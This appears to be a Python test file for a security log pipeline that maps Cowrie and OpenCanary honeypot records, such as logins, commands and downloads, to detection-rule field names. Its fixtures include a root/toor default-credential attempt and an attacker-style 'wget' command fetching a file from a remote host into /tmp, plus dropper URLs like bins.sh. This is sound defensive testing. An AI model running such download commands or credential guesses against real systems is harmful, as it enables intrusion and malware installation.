"""Honeypot logs: log-ins, commands and connections under the names that source-agnostic rules use."""

from __future__ import annotations

import pytest

from tests.factories.samples import ORIGIN, documents, event, view
from tocsin.core.errors import RecordError
from tocsin.core.event import Fields, Json
from tocsin.pipeline.normalise.aliases import LogSource, bundled
from tocsin.pipeline.normalise.parsers.cowrie import Cowrie
from tocsin.pipeline.normalise.parsers.opencanary import OpenCanary
from tocsin.pipeline.normalise.times import iso_time

COWRIE: Fields = {
    "eventid": "cowrie.login.failed",
    "username": "root",
    "password": "toor",
    "protocol": "ssh",
    "src_ip": "198.51.100.7",
    "sensor": "pot-1",
    "timestamp": "2026-11-23T06:03:10.366801Z",
}
CANARY: Fields = {
    "logtype": 4002,
    "logdata": {"USERNAME": "root", "PASSWORD": "toor"},
    "node_id": "canary-1",
    "src_host": "198.51.100.7",
    "src_port": 34145,
    "dst_host": "192.0.2.10",
    "dst_port": 22,
    "local_time": "2026-11-23 06:03:36.807001",
    "utc_time": "2026-11-23 06:03:36.807003",
}


def read(field: str, document: Fields, parser: Cowrie | OpenCanary) -> Json:
    one = event(parser, document)
    return bundled().route(one.shape, one.kind).resolve(field).read(one.fields)


@pytest.mark.parametrize(("outcome", "status"), [("failed", "Failure"), ("success", "Success")])
def test_a_cowrie_log_in_is_an_authentication(outcome: str, status: str) -> None:
    one = event(Cowrie(), COWRIE | {"eventid": f"cowrie.login.{outcome}"})

    assert LogSource("cowrie", "authentication") in bundled().route(one.shape, one.kind).logsources
    columns = view(one)["columns"]
    assert (columns["user.name"], columns["status"], columns["auth_protocol"]) == ("root", status, "ssh")
    assert (columns["src_endpoint.ip"], columns["device.hostname"]) == ("198.51.100.7", "pot-1")


def test_a_command_in_cowrie_is_a_process_creation_on_linux() -> None:
    typed = COWRIE | {"eventid": "cowrie.command.input", "input": "wget http://203.0.113.9/x -O /tmp/x"}

    one = event(Cowrie(), typed)
    assert LogSource("linux", "process_creation") in bundled().route(one.shape, one.kind).logsources
    assert read("CommandLine", typed, Cowrie()) == typed["input"]
    assert read("Image", typed, Cowrie()) == "wget"


def test_an_unknown_command_is_not_counted_twice() -> None:
    """Cowrie writes command.input for every command, and command.failed after it for those it cannot play."""
    one = event(Cowrie(), COWRIE | {"eventid": "cowrie.command.failed", "input": "frobnicate"})

    assert LogSource("linux", "process_creation") not in bundled().route(one.shape, one.kind).logsources


def test_a_download_through_cowrie_names_url_hash_and_file() -> None:
    shown = [view(event(Cowrie(), one))["columns"] for one in documents("cowrie") if "url" in one]

    assert [one["http_request.url.text"] for one in shown] == [
        "http://203.0.113.9/bins.sh",
        "http://203.0.113.9/bins.mips",
    ]
    assert shown[0]["file.hashes.sha256"].startswith("0f6ab8e8")


def test_cowrie_times_keep_their_offset() -> None:
    parsed = Cowrie().parse(COWRIE | {"timestamp": "2026-11-23T07:03:42.512345+0100"}, ORIGIN)

    assert parsed.time == iso_time("2026-11-23T06:03:42.512345Z")


def test_a_cowrie_record_without_a_time_is_kept_without_one() -> None:
    assert Cowrie().parse({"eventid": "cowrie.log.open"}, ORIGIN).time is None


def test_a_cowrie_record_with_a_broken_time_is_refused() -> None:
    with pytest.raises(RecordError, match="unreadable time"):
        Cowrie().parse(COWRIE | {"timestamp": "yesterday"}, ORIGIN)


@pytest.mark.parametrize(
    ("logtype", "protocol"),
    [(2000, "ftp"), (3001, "http"), (4002, "ssh"), (6001, "telnet"), (8001, "mysql"), (9001, "mssql"), (12001, "vnc")],
)
def test_a_log_in_at_a_decoy_is_a_failed_authentication(logtype: int, protocol: str) -> None:
    one = event(OpenCanary(), CANARY | {"logtype": logtype})

    assert LogSource("opencanary", "authentication") in bundled().route(one.shape, one.kind).logsources
    columns = view(one)["columns"]
    assert (columns["user.name"], columns["status"], columns["auth_protocol"]) == ("root", "Failure", protocol)


def test_what_was_typed_at_a_decoy_is_found_with_and_without_its_holder() -> None:
    assert read("logdata.PASSWORD", CANARY, OpenCanary()) == "toor"
    assert read("PASSWORD", CANARY, OpenCanary()) == "toor"


def test_a_decoy_knows_no_port_where_it_writes_minus_one() -> None:
    columns = view(event(OpenCanary(), CANARY | {"logtype": 5000, "src_port": "-1", "dst_port": -1}))["columns"]

    assert "src_endpoint.port" not in columns
    assert "dst_endpoint.port" not in columns


def test_only_the_log_in_among_mongodb_records_is_an_authentication() -> None:
    mongodb = [event(OpenCanary(), one) for one in documents("opencanary") if one["logtype"] == 20001]

    assert [
        LogSource("opencanary", "authentication") in bundled().route(one.shape, one.kind).logsources for one in mongodb
    ] == [True, False]


@pytest.mark.parametrize("logtype", [None, "ssh", -1, True, 4002.5, [4002], "٤٠٠٢"])
def test_a_log_type_that_is_no_number_is_refused(logtype: Json) -> None:
    with pytest.raises(RecordError, match="log type is no number"):
        OpenCanary().parse(CANARY | {"logtype": logtype}, ORIGIN)
